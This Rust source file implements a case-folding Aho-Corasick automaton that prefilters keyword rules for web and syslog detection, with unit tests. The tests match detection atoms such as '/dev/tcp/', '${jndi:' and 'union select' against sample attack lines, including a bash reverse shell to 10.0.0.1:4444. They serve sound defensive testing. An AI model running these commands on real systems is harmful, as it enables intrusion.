//! A dense, ASCII-case-folding Aho-Corasick automaton for a field's atoms.
//!
//! The prefilter needs every occurrence of every atom (overlapping), and
//! the `aho-corasick` crate's overlapping search goes through its generic
//! automaton interface: some 20 instructions per byte even on its DFA. Most
//! scanned text that does not repeat is a raw line of 100–300 bytes (web
//! and syslog keyword rules), so that walk — or the packed presence check
//! and the lower-cased copy it needs — was most of an event's cost. This
//! automaton is a plain table walk: one class lookup and one transition per
//! byte, with match states numbered last so that a single compare tells
//! whether a state reports anything.
//!
//! Upper- and lower-case ASCII letters share a byte class, so the automaton
//! finds the (lower-cased) atoms in the original text wherever that text is
//! pure ASCII: there, lower-casing character by character is ASCII
//! lower-casing byte by byte, and no copy is needed. Text with other
//! characters must still be lower-cased first (`İ`, the Kelvin sign and
//! friends change length or become ASCII); on lower-cased text, which has
//! no ASCII capitals, folding changes nothing.

/// Largest table built, in bytes, before the rows that align the match
/// states to a power of two (at most as many again, never entered and
/// left untouched): beyond it the field keeps the compact automaton of the
/// `aho-corasick` crate.
pub const MAX_TABLE_BYTES: usize = 8 << 20;

/// The automaton (see the module documentation).
#[derive(Debug, Clone)]
pub struct DenseScan {
    /// Byte → class; bytes no pattern contains share class 0, an ASCII
    /// capital the class of its small letter.
    classes: [u8; 256],
    /// Transitions, `table[state + class]`, states premultiplied by the
    /// number of classes.
    table: Vec<u32>,
    /// Smallest (premultiplied) state that reports patterns: every state
    /// from here on does, none before.
    first_match: u32,
    /// A power of two with every state that reports nothing below it and
    /// every state that reports something at or above it (the match
    /// states start at a row past it, see [`DenseScan::new`]): the states
    /// of a round of the walk, OR-ed, reach it exactly when one of them
    /// reports, which is one compare for the round instead of a maximum
    /// of all its states.
    match_bit: u32,
    /// Number of classes (the table's row length).
    stride: u32,
    /// Per match state (in order from `first_match`): range into `pats`.
    spans: Vec<(u32, u32)>,
    /// Pattern indices reported by the match states, own patterns and
    /// those of the states they fall back to.
    pats: Vec<u32>,
}

const NONE: u32 = u32::MAX;

impl DenseScan {
    /// The automaton for `patterns` (lower-cased atoms; index = pattern id),
    /// or `None` when a pattern is empty or has an ASCII capital (the
    /// folding would then change what it finds) or the table would exceed
    /// [`MAX_TABLE_BYTES`].
    pub fn new(patterns: &[&[u8]]) -> Option<DenseScan> {
        if patterns
            .iter()
            .any(|p| p.is_empty() || p.iter().any(u8::is_ascii_uppercase))
        {
            return None;
        }
        let mut classes = [0u8; 256];
        let mut used = [false; 256];
        for p in patterns {
            for &b in *p {
                used[b as usize] = true;
            }
        }
        let mut n_classes: usize = 1;
        for b in 0..256usize {
            if used[b] {
                if n_classes > usize::from(u8::MAX) {
                    return None;
                }
                classes[b] = n_classes as u8;
                n_classes += 1;
            }
        }
        for b in b'A'..=b'Z' {
            classes[b as usize] = classes[b.to_ascii_lowercase() as usize];
        }
        let stride = n_classes;

        // the trie, rows of `stride` entries
        let mut trie: Vec<u32> = vec![NONE; stride];
        let mut own: Vec<Vec<u32>> = vec![Vec::new()];
        let states_max = MAX_TABLE_BYTES / 4 / stride;
        for (i, p) in patterns.iter().enumerate() {
            let mut s = 0usize;
            for &b in *p {
                let at = s * stride + classes[b as usize] as usize;
                if trie[at] == NONE {
                    let n = own.len();
                    if n >= states_max {
                        return None;
                    }
                    trie[at] = n as u32;
                    trie.extend(std::iter::repeat_n(NONE, stride));
                    own.push(Vec::new());
                }
                s = trie[at] as usize;
            }
            own[s].push(i as u32);
        }
        let n = own.len();

        // failure links breadth first; missing transitions become the
        // fallback state's transitions, so the table is complete
        let mut fail = vec![0u32; n];
        let mut order = Vec::with_capacity(n);
        let mut out: Vec<Vec<u32>> = own;
        for t in trie.iter_mut().take(stride) {
            match *t {
                NONE => *t = 0,
                child => {
                    fail[child as usize] = 0;
                    order.push(child);
                }
            }
        }
        let mut head = 0;
        while let Some(&s) = order.get(head) {
            head += 1;
            let s = s as usize;
            let f = fail[s] as usize;
            for c in 0..stride {
                let child = trie[s * stride + c];
                let via_fail = trie[f * stride + c];
                if child == NONE {
                    trie[s * stride + c] = via_fail;
                } else {
                    let cf = via_fail as usize;
                    fail[child as usize] = cf as u32;
                    if !out[cf].is_empty() {
                        let inherited = out[cf].clone();
                        out[child as usize].extend(inherited);
                    }
                    order.push(child);
                }
            }
        }

        // renumber: states without matches first (the root stays 0)
        let mut new_id = vec![0u32; n];
        let mut next = 0u32;
        for (s, o) in out.iter().enumerate() {
            if o.is_empty() {
                new_id[s] = next;
                next += 1;
            }
        }
        let first = next;
        let mut spans = Vec::new();
        let mut pats = Vec::new();
        for (s, o) in out.iter().enumerate() {
            if !o.is_empty() {
                new_id[s] = next;
                next += 1;
                let a = pats.len() as u32;
                pats.extend_from_slice(o);
                spans.push((a, pats.len() as u32));
            }
        }
        // the invariant the unchecked walk relies on (see `step`): every
        // entry is some state's row, `new_id[k] * stride` with `k` a state
        // (`new_id` renumbers the `n` states among themselves), and every
        // class indexes within a row
        let complete = trie.iter().all(|&t| (t as usize) < n)
            && new_id.iter().all(|&k| (k as usize) < n)
            && classes.iter().all(|&c| usize::from(c) < stride);
        if !complete {
            return None;
        }
        // The match states start at the first row at or past a power of
        // two (`match_bit`); the rows in between are never entered (no
        // transition leads there) and stay zero, a valid row start.
        let match_bit = (first as usize * stride).next_power_of_two();
        let match_row = match_bit.div_ceil(stride);
        let rows = match_row + (n - first as usize);
        if rows * stride * 4 > 2 * MAX_TABLE_BYTES || rows * stride > u32::MAX as usize / 2 {
            return None;
        }
        let row_of = |k: u32| -> usize {
            if k < first {
                k as usize
            } else {
                match_row + (k - first) as usize
            }
        };
        let mut table = vec![0u32; rows * stride];
        for s in 0..n {
            let row = row_of(new_id[s]) * stride;
            for c in 0..stride {
                table[row + c] = (row_of(new_id[trie[s * stride + c] as usize]) * stride) as u32;
            }
        }
        Some(DenseScan {
            classes,
            table,
            first_match: (match_row * stride) as u32,
            match_bit: match_bit as u32,
            stride: stride as u32,
            spans,
            pats,
        })
    }

    /// Calls `f` with the pattern id of every occurrence of a pattern in
    /// `hay` (ASCII letters folded), ending position by ending position.
    /// Kept out of line: inlined into the evaluator, the loop shared the
    /// registers with it and kept its pointers on the stack.
    #[inline(never)]
    pub fn for_each_match(&self, hay: &[u8], mut f: impl FnMut(u32)) {
        let bit = self.match_bit;
        let mut s = 0u32;
        // eight bytes per round, one branch for all eight states: most
        // bytes of most texts end in no atom; the states OR-ed reach
        // `match_bit` exactly when one of them reports
        let mut rounds = hay.chunks_exact(8);
        for q in &mut rounds {
            let s1 = self.step(s, q[0]);
            let s2 = self.step(s1, q[1]);
            let s3 = self.step(s2, q[2]);
            let s4 = self.step(s3, q[3]);
            let s5 = self.step(s4, q[4]);
            let s6 = self.step(s5, q[5]);
            let s7 = self.step(s6, q[6]);
            let s8 = self.step(s7, q[7]);
            if (s1 | s2 | s3 | s4 | s5 | s6 | s7 | s8) >= bit {
                for x in [s1, s2, s3, s4, s5, s6, s7, s8] {
                    if x >= bit {
                        self.report(x, &mut f);
                    }
                }
            }
            s = s8;
        }
        for &b in rounds.remainder() {
            s = self.step(s, b);
            if s >= bit {
                self.report(s, &mut f);
            }
        }
    }

    /// The state after byte `b` in state `s`.
    #[inline(always)]
    fn step(&self, s: u32, b: u8) -> u32 {
        let i = (s + u32::from(self.classes[usize::from(b)])) as usize;
        debug_assert!(i < self.table.len());
        // SAFETY: `new` builds (and checks) a complete table: every entry
        // is a state `k * stride` with `k < table.len() / stride`, the
        // walks start at state 0, and every class is below `stride`; so
        // `s + class` is always inside the table. The fields are private
        // and never change after `new`. This is the innermost loop of
        // every scan, where a bounds check is a compare and a branch per
        // byte next to the four instructions of the step itself.
        unsafe { *self.table.get_unchecked(i) }
    }

    /// The patterns of match state `s`.
    #[cold]
    fn report(&self, s: u32, f: &mut impl FnMut(u32)) {
        let k = ((s - self.first_match) / self.stride) as usize;
        if let Some(&(a, z)) = self.spans.get(k) {
            for &p in self.pats.get(a as usize..z as usize).unwrap_or(&[]) {
                f(p);
            }
        }
    }

    /// Heap bytes of the table and match lists.
    pub fn memory_usage(&self) -> usize {
        self.table.len() * 4 + self.spans.len() * 8 + self.pats.len() * 4
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Pattern ids of every occurrence, by brute force over the
    /// ASCII-lower-cased text.
    fn naive(pats: &[&[u8]], hay: &[u8]) -> Vec<u32> {
        let low = hay.to_ascii_lowercase();
        let mut out = Vec::new();
        for end in 1..=low.len() {
            for (i, p) in pats.iter().enumerate() {
                if end >= p.len() && &low[end - p.len()..end] == *p {
                    out.push(i as u32);
                }
            }
        }
        out.sort_unstable();
        out
    }

    fn found(d: &DenseScan, hay: &[u8]) -> Vec<u32> {
        let mut out = Vec::new();
        d.for_each_match(hay, |p| out.push(p));
        out.sort_unstable();
        out
    }

    #[test]
    fn finds_every_overlapping_occurrence_with_ascii_case_folded() {
        let pats: Vec<&[u8]> = vec![
            b"he",
            b"she",
            b"his",
            b"hers",
            b"cmd.exe",
            b"exe",
            b"e",
            b"/dev/tcp/",
        ];
        let d = DenseScan::new(&pats).expect("small automaton");
        for hay in [
            &b"ushers"[..],
            b"SHE said HIS and HERS",
            b"C:\\Windows\\System32\\CMD.EXE /c whoami",
            b"bash -i >& /DEV/TCP/10.0.0.1/4444",
            b"",
            b"eeee",
        ] {
            assert_eq!(
                found(&d, hay),
                naive(&pats, hay),
                "{:?}",
                String::from_utf8_lossy(hay)
            );
        }
    }

    /// Every occurrence is reported exactly once, wherever it falls in
    /// the four-byte rounds of the walk (and in the bytes after the last
    /// round), overlapping or back to back.
    #[test]
    fn random_texts_report_every_occurrence_once() {
        let pats: Vec<&[u8]> = vec![
            b"ab",
            b"abc",
            b"bca",
            b"/etc/passwd",
            b"select",
            b"union select",
            b"${jndi:",
            b"aaaaaaaaaaaaaaaaaaaa",
        ];
        let d = DenseScan::new(&pats).expect("small automaton");
        // deterministic texts over an alphabet where the patterns occur often
        let mut rng = crate::synth::Rng::new(0x9e37_79b9_7f4a_7c15);
        let alphabet = b"abcAB /etpswdSELCTunio${jnd:}";
        for len in [
            0usize, 1, 5, 60, 61, 62, 63, 64, 65, 66, 67, 99, 100, 101, 257, 1000,
        ] {
            for _ in 0..40 {
                let hay: Vec<u8> = (0..len)
                    .map(|_| alphabet[rng.below(alphabet.len())])
                    .collect();
                assert_eq!(
                    found(&d, &hay),
                    naive(&pats, &hay),
                    "{:?}",
                    String::from_utf8_lossy(&hay)
                );
            }
        }
    }

    #[test]
    fn non_ascii_bytes_are_matched_exactly() {
        // "é" and the Cyrillic "с" as atoms; capitals outside ASCII are not
        // folded (the evaluator lower-cases such text first)
        let pats: Vec<&[u8]> = vec!["é".as_bytes(), "сmd".as_bytes(), b"abc"];
        let d = DenseScan::new(&pats).expect("small automaton");
        let hay = "É é Сmd сMD ABC".as_bytes();
        let mut got = Vec::new();
        d.for_each_match(hay, |p| got.push(p));
        got.sort_unstable();
        assert_eq!(got, vec![0, 1, 2]);
    }

    #[test]
    fn refuses_patterns_folding_would_change() {
        assert!(DenseScan::new(&[b"Cmd"]).is_none());
        assert!(DenseScan::new(&[b""]).is_none());
        assert!(DenseScan::new(&[b"cmd"]).is_some());
    }
}
